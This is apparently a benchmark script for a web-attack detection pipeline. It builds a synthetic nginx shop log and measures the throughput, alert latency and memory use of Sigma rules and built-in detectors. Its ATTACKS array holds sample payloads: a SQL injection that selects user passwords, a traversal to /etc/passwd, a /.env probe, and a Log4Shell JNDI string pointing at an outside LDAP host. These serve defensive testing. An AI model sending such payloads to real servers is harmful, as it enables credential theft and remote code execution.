/**
 * Detection pipeline benchmark: `npm run bench:detect` (node --expose-gc).
 * 1. Throughput on one core: an nginx combined log (DETECT_BENCH_N lines, default 200,000,
 *    a shop mix from 20,000 clients with 0.5 % attack lines) read with `ingestFile`, through
 *    every SigmaHQ web and proxy rule (SIGMA_RULES_DIR, default ../shared/reference/sigma-web-rules)
 *    and the 8 built-in detectors; with anomaly detection and without. Best and median of
 *    DETECT_BENCH_ROUNDS rounds (default 3), and the parse-only rate for reference.
 * 2. Latency from event to alert at a fixed 10,000 events/s (DETECT_BENCH_RATE) for
 *    DETECT_BENCH_SECONDS (default 10), measured for the events that open an alert (one new
 *    attacker every 100 events); p50 / p99 / max. (a) the server's path: event sink ─►
 *    bus (and, in batches beside it, the SQLite store) ─► pipeline ─► ledger commit ─► alert on
 *    the bus; (b) the detect stage alone: events straight onto the bus.
 * 3. Memory for DETECT_BENCH_KEYS (default 1,000,000) distinct client addresses in the
 *    state of the correlation engine (an event_count rule grouped by c-ip), the built-in
 *    detectors and anomaly detection: heap used after a full GC, and keys held per detector.
 * DETECT_BENCH_PARTS (default `throughput,latency,memory`) picks the parts to run.
 * Prints numbers; asserts nothing. On a shared machine compare the CPU-second figures.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { performance } from 'node:perf_hooks';
import { randomBytes } from 'node:crypto';
import { fileURLToPath } from 'node:url';
import { pino } from 'pino';
import { MemoryBus } from '../src/bus/memory/memory-bus.js';
import { TOPICS } from '../src/bus/bus.js';
import type { Alert, SecurityEvent } from '../src/core/records/index.js';
import {
  createDetectionPipeline,
  runDetection,
  type DetectionPipelineOptions,
} from '../src/detect/pipeline/index.js';
import { loadSigmaRules } from '../src/detect/sigma/index.js';
import { createEventSink } from '../src/ingest/event-sink.js';
import { createAccessLineParser } from '../src/ingest/sources/access-log/source.js';
import { ingestFile } from '../src/ingest/sources/file-ingest.js';
import { Ledger } from '../src/ledger/index.js';
import { openStore } from '../src/store/index.js';

const here = path.dirname(fileURLToPath(import.meta.url));
const rulesDir =
  process.env['SIGMA_RULES_DIR'] ?? path.resolve(here, '../../shared/reference/sigma-web-rules');
const N = Number(process.env['DETECT_BENCH_N'] ?? 200_000);
const ROUNDS = Number(process.env['DETECT_BENCH_ROUNDS'] ?? 3);
const RATE = Number(process.env['DETECT_BENCH_RATE'] ?? 10_000);
const SECONDS = Number(process.env['DETECT_BENCH_SECONDS'] ?? 10);
const KEYS = Number(process.env['DETECT_BENCH_KEYS'] ?? 1_000_000);

const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
];
const PAGES = [
  (i: number) => `/catalog/shoes?page=${i % 9}&sort=price`,
  (i: number) => `/product/${1000 + (i % 500)}`,
  (i: number) => `/static/app.${i % 7}.js`,
  (i: number) => `/search?q=${['red+dress', 'running+shoes', 'gift+card'][i % 3]}`,
  () => '/checkout/address',
  () => '/',
  (i: number) => `/account/orders/${i % 50}`,
];
const ATTACKS = [
  '/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--',
  '/index.php?page=../../../../etc/passwd',
  '/.env',
  '/?x=${jndi:ldap://198.51.100.66:1389/a}',
];

const ipOf = (n: number) => `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`;

function clf(
  ip: string,
  timeMs: number,
  method: string,
  target: string,
  status: number,
  agent: string,
): string {
  const d = new Date(timeMs);
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
  const two = (v: number) => String(v).padStart(2, '0');
  const stamp = `${two(d.getUTCDate())}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} +0000`;
  return `${ip} - - [${stamp}] "${method} ${target} HTTP/1.1" ${status} ${1000 + (timeMs % 30000)} "https://shop.example/" "${agent}"`;
}

/** Line i of the shop mix: 20,000 clients at ~2,000 requests/s of log time, 1 line in 200 an attack. */
function shopLine(i: number, startMs: number): string {
  const timeMs = startMs + Math.floor(i / 2);
  if (i % 200 === 199)
    return clf(ipOf(500_000 + (i % 37)), timeMs, 'GET', ATTACKS[i % ATTACKS.length]!, 404, 'sqlmap/1.7.2');
  const client = (i * 7919) % 20_000;
  const page = PAGES[i % PAGES.length]!(i);
  return clf(
    ipOf(client),
    timeMs,
    page === '/checkout/address' ? 'POST' : 'GET',
    page,
    200,
    AGENTS[client % AGENTS.length]!,
  );
}

const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)]!;
const mb = (bytes: number) => (bytes / 1024 / 1024).toFixed(0);
function gc(): void {
  (globalThis as { gc?: () => void }).gc?.();
}

async function throughput(): Promise<void> {
  const dir = mkdtempSync(path.join(tmpdir(), 'ensuresec-bench-detect-'));
  const file = path.join(dir, 'access.log');
  const startMs = Date.parse('2026-11-26T10:00:00Z');
  const lines: string[] = [];
  for (let i = 0; i < N; i++) lines.push(shopLine(i, startMs));
  writeFileSync(file, lines.join('\n') + '\n');
  lines.length = 0;
  const sigma = await loadSigmaRules(rulesDir);
  console.log(
    `rules: ${sigma.rules.length} Sigma rules from ${sigma.files} files (${sigma.problems.length} problems)`,
  );

  const run = async (label: string, withPipeline: boolean, anomaly: boolean) => {
    const rates: number[] = [];
    const cpuRates: number[] = [];
    let alerts = 0;
    for (let round = 0; round < ROUNDS; round++) {
      const pipeline = createDetectionPipeline({ sigma, ...(anomaly ? {} : { anomaly: false }) });
      gc();
      const started = performance.now();
      const cpuBefore = process.cpuUsage();
      let events = 0;
      for await (const batch of ingestFile(file, { format: 'nginx' }).batches()) {
        events += batch.length;
        if (withPipeline) pipeline.observeMany(batch);
      }
      const seconds = (performance.now() - started) / 1000;
      const cpu = process.cpuUsage(cpuBefore);
      rates.push(events / seconds);
      cpuRates.push(events / ((cpu.user + cpu.system) / 1e6));
      alerts = pipeline.stats().alertsCreated;
    }
    const rate = (value: number) => Math.round(value).toLocaleString('en');
    console.log(
      `${label.padEnd(48)} per CPU second: best ${rate(Math.max(...cpuRates))} ev/s, ` +
        `median ${rate(median(cpuRates))}; wall clock: best ${rate(Math.max(...rates))} ev/s` +
        (withPipeline ? ` (${alerts} alerts)` : ''),
    );
  };
  console.log(`\n1. throughput on one core, ${N.toLocaleString('en')} nginx lines, best of ${ROUNDS}`);
  await run('parse only (file ─► SecurityEvents)', false, false);
  await run('parse + Sigma rules + built-in detectors', true, false);
  await run('parse + Sigma + built-in + anomaly detection', true, true);
  rmSync(dir, { recursive: true, force: true });
}

/** `withSink`: the server's whole path; without, events go straight onto the bus (the detect stage alone). */
async function latency(withSink: boolean): Promise<void> {
  console.log(
    `\n2${withSink ? 'a' : 'b'}. event ─► stored alert on the bus at ${RATE.toLocaleString('en')} ev/s for ${SECONDS} s (SQLite, ledger)${withSink ? ', through the event sink' : ', events straight onto the bus'}`,
  );
  const dir = mkdtempSync(path.join(tmpdir(), 'ensuresec-bench-latency-'));
  const store = await openStore({ dialect: 'sqlite', path: path.join(dir, 'bench.db') });
  await store.migrate();
  const ledger = await Ledger.open({ store, pseudonymisationKey: randomBytes(32) });
  const bus = new MemoryBus();
  const logger = pino({ level: 'silent' });
  const sink = createEventSink({ store, bus, logger });
  const sigma = await loadSigmaRules(rulesDir);
  const detection = runDetection({ bus, ledger, logger, pipeline: createDetectionPipeline({ sigma }) });
  const pushedAt = new Map<string, number>();
  const latencies: number[] = [];
  bus.subscribe<Alert>(
    TOPICS.alerts,
    (message) => {
      for (const id of message.data.eventIds.slice(0, 1)) {
        const at = pushedAt.get(id);
        if (at !== undefined) latencies.push(performance.now() - at);
      }
    },
    { group: 'bench' },
  );
  const onBus: number[] = [];
  bus.subscribe<SecurityEvent>(
    TOPICS.events,
    (message) => {
      const at = pushedAt.get(message.data.id);
      if (at !== undefined) onBus.push(performance.now() - at);
    },
    { group: 'bench-events' },
  );
  const parse = createAccessLineParser({ name: 'bench', format: 'nginx' });
  const started = performance.now();
  const total = RATE * SECONDS;
  const startMs = Date.now();
  let sent = 0;
  while (sent < total) {
    const due = Math.min(total, Math.floor(((performance.now() - started) / 1000) * RATE));
    for (; sent < due; sent++) {
      const attacker = sent % 100 === 99;
      const line = attacker
        ? clf(
            ipOf(700_000 + sent),
            startMs + Math.floor(sent / 2),
            'GET',
            '/',
            200,
            'sqlmap/1.7.2#stable (https://sqlmap.org)',
          )
        : shopLine(sent, startMs);
      const result = parse(line, { file: 'bench', offset: sent });
      if (!result?.ok) continue;
      if (attacker) pushedAt.set(result.event.id, performance.now());
      if (withSink) sink.push(result.event);
      else void bus.publish(TOPICS.events, result.event, { id: result.event.id });
    }
    await new Promise((resolve) => setImmediate(resolve));
  }
  await sink.flush();
  await bus.drain();
  await detection.flush();
  await bus.drain();
  const quantiles = (values: number[]) => {
    const sorted = [...values].sort((a, b) => a - b);
    const at = (q: number) =>
      sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))] ?? Number.NaN;
    return `p50 ${at(0.5).toFixed(1)} ms, p99 ${at(0.99).toFixed(1)} ms, max ${(sorted.at(-1) ?? Number.NaN).toFixed(1)} ms`;
  };
  const elapsed = (performance.now() - started) / 1000;
  console.log(`   ${sent.toLocaleString('en')} events in ${elapsed.toFixed(1)} s`);
  console.log(`   event ─► stored alert on the bus (${latencies.length} alerts): ${quantiles(latencies)}`);
  if (withSink)
    console.log(
      `   of which event ─► on the bus (the event sink publishes before it stores): ${quantiles(onBus)}`,
    );
  console.log(
    `   event sink: ${JSON.stringify(sink.stats())}; writer: ${JSON.stringify(detection.stats().writer)}`,
  );
  await detection.close();
  await sink.close();
  await bus.close();
  await ledger.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
}

const MEMORY_PARTS = ['sigma', 'detectors', 'anomaly', 'everything'] as const;
type MemoryPart = (typeof MEMORY_PARTS)[number];
const MEMORY_LABELS: Record<MemoryPart, string> = {
  sigma: 'Sigma rules + a correlation grouped by c-ip',
  detectors: 'built-in detectors',
  anomaly: 'anomaly detection',
  everything: 'everything',
};

/** One part, in this process (a fresh one, so the baseline holds nothing of another part). */
async function memoryPart(part: MemoryPart): Promise<void> {
  const sigma = await loadSigmaRules([rulesDir, path.join(here, 'fixtures/detect')]);
  const none = { rules: [], correlations: [] };
  const options: Record<MemoryPart, DetectionPipelineOptions> = {
    sigma: { sigma, detectors: false, anomaly: false },
    detectors: { sigma: none, anomaly: false },
    anomaly: { sigma: none, detectors: false },
    everything: { sigma },
  };
  const parse = createAccessLineParser({ name: 'bench', format: 'nginx', keepRawLine: false });
  const startMs = Date.parse('2026-11-26T10:00:00Z');
  gc();
  const before = process.memoryUsage().heapUsed;
  const pipeline = createDetectionPipeline({ ...options[part], correlation: { maxKeysPerRule: KEYS } });
  const started = performance.now();
  for (let i = 0; i < KEYS; i++) {
    // One request per address, all within the correlation's 10 minutes so no group expires.
    const timeMs = startMs + Math.floor(i / 2000);
    const line = clf(ipOf(i), timeMs, 'GET', `/product/${i % 500}`, 200, AGENTS[i % AGENTS.length]!);
    const result = parse(line, { file: 'bench', offset: i });
    if (result?.ok) pipeline.observe(result.event);
  }
  const seconds = (performance.now() - started) / 1000;
  gc();
  const bytes = process.memoryUsage().heapUsed - before;
  const keys = Object.entries(pipeline.stats().stateKeys)
    .filter(([, count]) => count > 0)
    .map(([name, count]) => `${name} ${count.toLocaleString('en')}`)
    .join(', ');
  console.log(
    `   ${MEMORY_LABELS[part].padEnd(44)} ${mb(bytes).padStart(5)} MB (${(bytes / KEYS).toFixed(0)} B per address); ` +
      `keys: ${keys}; ${Math.round(KEYS / seconds).toLocaleString('en')} ev/s; rss ${mb(process.memoryUsage().rss)} MB`,
  );
}

async function memory(): Promise<void> {
  console.log(
    `\n3. state for ${KEYS.toLocaleString('en')} distinct client addresses (heap after a full GC, one process per line)`,
  );
  for (const part of MEMORY_PARTS) {
    const child = spawnSync(process.execPath, [...process.execArgv, fileURLToPath(import.meta.url)], {
      env: { ...process.env, DETECT_BENCH_PARTS: `memory-${part}` },
      stdio: 'inherit',
    });
    if (child.status !== 0) console.log(`   ${part}: failed (${child.status ?? child.signal})`);
  }
}

const PARTS = (process.env['DETECT_BENCH_PARTS'] ?? 'throughput,latency,memory').split(',');
if (PARTS.includes('throughput')) await throughput();
if (PARTS.includes('latency')) {
  await latency(true);
  await latency(false);
}
if (PARTS.includes('memory')) await memory();
for (const part of MEMORY_PARTS) if (PARTS.includes(`memory-${part}`)) await memoryPart(part);
